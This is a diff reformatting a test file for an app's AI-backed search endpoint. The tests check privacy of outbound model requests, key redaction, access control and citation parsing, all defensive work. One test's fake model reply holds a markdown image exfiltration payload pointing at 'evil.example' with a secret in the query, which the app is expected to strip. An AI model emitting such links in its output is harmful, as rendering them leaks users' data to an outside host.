@@ -19,7 +19,13 @@ beforeAll(async () => {
   models = new ModelServer()
   quiet = watch(await ownApp(undefined, models.settings))
   t = watch(
-    await ownApp(undefined, { ...models.settings, CHAT_URL: models.url, CHAT_MODEL: 'talker', CHAT_KEY: KEY, CHAT_TIMEOUT_SECONDS: '1' }),
+    await ownApp(undefined, {
+      ...models.settings,
+      CHAT_URL: models.url,
+      CHAT_MODEL: 'talker',
+      CHAT_KEY: KEY,
+      CHAT_TIMEOUT_SECONDS: '1',
+    }),
   )
 })
 afterAll(async () => {
@@ -118,7 +124,12 @@ describe('without a chat model', () => {
 
   test('a body that is far too large is not read, a stranger’s not at all', async () => {
     const me = await person(quiet)
-    await expectRefusal(quiet, await me.fetch('POST', '/api/search/ai', { query: 'x'.repeat(2 << 20) }), 413, 'too_large')
+    await expectRefusal(
+      quiet,
+      await me.fetch('POST', '/api/search/ai', { query: 'x'.repeat(2 << 20) }),
+      413,
+      'too_large',
+    )
     await expectRefusal(quiet, await call(quiet, 'POST', '/api/search/ai', { query: 'x' }), 401, 'unauthenticated')
   })
 })
@@ -142,9 +153,18 @@ describe('with a chat model', () => {
     const note = await write(me, { title: 'Rollback', content: 'Run make rollback.' })
     await ready(t)
     models.reply = ModelServer.says('See [1].')
-    await me.fetch('POST', '/api/search/ai', { query: 'rollback?' }, { cookie: 'tutti=secret-cookie', 'x-forwarded-for': '203.0.113.9' })
+    await me.fetch(
+      'POST',
+      '/api/search/ai',
+      { query: 'rollback?' },
+      { cookie: 'tutti=secret-cookie', 'x-forwarded-for': '203.0.113.9' },
+    )
     const [asked] = models.asked as [(typeof models.asked)[0]]
-    expect([asked.method, asked.path, asked.headers.authorization]).toEqual(['POST', '/v1/chat/completions', `Bearer ${KEY}`])
+    expect([asked.method, asked.path, asked.headers.authorization]).toEqual([
+      'POST',
+      '/v1/chat/completions',
+      `Bearer ${KEY}`,
+    ])
     const body = JSON.parse(asked.body)
     expect(body).toEqual({
       model: 'talker',
@@ -159,7 +179,17 @@ describe('with a chat model', () => {
       sources: [{ number: 1, kind: 'note', title: 'Rollback', text: 'Run make rollback.', updatedAt: note.updatedAt }],
     })
     const sent = JSON.stringify(asked)
-    for (const own of [me.token, me.refreshToken, me.userId, me.email, 'Erika', me.organizationId, 'secret-cookie', '203.0.113.9', note.id])
+    for (const own of [
+      me.token,
+      me.refreshToken,
+      me.userId,
+      me.email,
+      'Erika',
+      me.organizationId,
+      'secret-cookie',
+      '203.0.113.9',
+      note.id,
+    ])
       expect([own, sent.includes(own)]).toEqual([own, false])
   })
 
@@ -185,7 +215,9 @@ describe('with a chat model', () => {
     const me = await person(t)
     await write(me, { title: 'Rollback', content: 'Run make rollback.' })
     await ready(t)
-    models.reply = ModelServer.says('Run it [1]. Then rest [7]. ![x](https://evil.example/?q=secret) See [here](https://evil.example).')
+    models.reply = ModelServer.says(
+      'Run it [1]. Then rest [7]. ![x](https://evil.example/?q=secret) See [here](https://evil.example).',
+    )
     const answer = await ask(me, 'rollback')
     expect([answer.answer, answer.citations]).toEqual(['Run it [1]. Then rest. x See here.', [1]])
   })
@@ -224,7 +256,11 @@ describe('with a chat model', () => {
     await write(me, { title: 'Rollback', content: 'Run make rollback.' })
     await ready(t)
     models.reply = 'hang'
-    expect(await ask(me, 'rollback')).toMatchObject({ answer: null, answerError: 'upstream_timeout', sources: [{ title: 'Rollback' }] })
+    expect(await ask(me, 'rollback')).toMatchObject({
+      answer: null,
+      answerError: 'upstream_timeout',
+      sources: [{ title: 'Rollback' }],
+    })
   })
 
   test('is not asked about nothing, and not without end', async () => {
@@ -244,7 +280,9 @@ describe('with a chat model', () => {
   })
 
   test('the operator’s key is not told to the log', async () => {
-    const config = loadConfig({ env: { DATA_DIR: '/nowhere', CHAT_URL: models.url, CHAT_MODEL: 'talker', CHAT_KEY: KEY } })
+    const config = loadConfig({
+      env: { DATA_DIR: '/nowhere', CHAT_URL: models.url, CHAT_MODEL: 'talker', CHAT_KEY: KEY },
+    })
     models.reply = Response.json({ error: `bad key ${KEY}` }, { status: 401 })
     const error = (await failure(complete(config, []))) as Error
     expect(String(error.cause)).toContain('bad key [redacted]')
@@ -265,13 +303,17 @@ describe('who gets what', () => {
     models.reply = ModelServer.says('[1]')
     expect(titles(await ask(me, 'What about the merger?')).sort()).toEqual(['Hidden', 'Merger', 'Mine'])
     expect(titles(await ask(await member(t, me, 'member'), 'What about the merger?'))).toEqual(['Mine'])
-    for (const { body } of models.asked) expect([body.includes('Theirs'), body.includes('Diary')]).toEqual([false, false])
+    for (const { body } of models.asked)
+      expect([body.includes('Theirs'), body.includes('Diary')]).toEqual([false, false])
   })
 
   test('what is gone or moved since it was indexed is neither shown nor told', async () => {
     const me = await person(t)
     const other = await member(t, me, 'member')
-    const [gone, mine] = [await write(me, { title: 'Gone', content: 'merger' }), await write(me, { title: 'Mine', content: 'merger' })]
+    const [gone, mine] = [
+      await write(me, { title: 'Gone', content: 'merger' }),
+      await write(me, { title: 'Mine', content: 'merger' }),
+    ]
     await write(me, { title: 'Left', content: 'merger' })
     await ready(t)
     await me.fetch('DELETE', `/api/notes/${gone.id}`)
@@ -290,9 +332,16 @@ describe('who gets what', () => {
     models.reply = ModelServer.says('[1]')
     expect(titles(await ask(me, 'merger', { projectId: project.id })).sort()).toEqual(['Inside', 'Merger'])
     expect(titles(await ask(me, 'merger', { kinds: ['project'] }))).toEqual(['Merger'])
-    await expectRefusal(t, await (await person(t)).fetch('POST', '/api/search/ai', { query: 'x', projectId: project.id }), 404, 'not_found')
+    await expectRefusal(
+      t,
+      await (await person(t)).fetch('POST', '/api/search/ai', { query: 'x', projectId: project.id }),
+      404,
+      'not_found',
+    )
     const headers = { authorization: `Bearer ${await apiKey(t, me, ['search:read', 'projects:read'])}` }
-    expect(titles((await call<Answer>(t, 'POST', '/api/search/ai', { query: 'merger' }, headers)).body)).toEqual(['Merger'])
+    expect(titles((await call<Answer>(t, 'POST', '/api/search/ai', { query: 'merger' }, headers)).body)).toEqual([
+      'Merger',
+    ])
   })
 })
 
@@ -312,8 +361,11 @@ test.each([
   expect(cited(said, 3)).toEqual({ answer, citations })
 })
 
-test.each(['[', '![', '[1', '[1](', '【', '<think>', '[1,', '](', '[[1]'])('%s a hundred thousand times over takes no time', (part) => {
-  const started = performance.now()
-  cited(part.repeat(100_000), 3)
-  expect(performance.now() - started).toBeLessThan(1000)
-})
+test.each(['[', '![', '[1', '[1](', '【', '<think>', '[1,', '](', '[[1]'])(
+  '%s a hundred thousand times over takes no time',
+  (part) => {
+    const started = performance.now()
+    cited(part.repeat(100_000), 3)
+    expect(performance.now() - started).toBeLessThan(1000)
+  },
+)
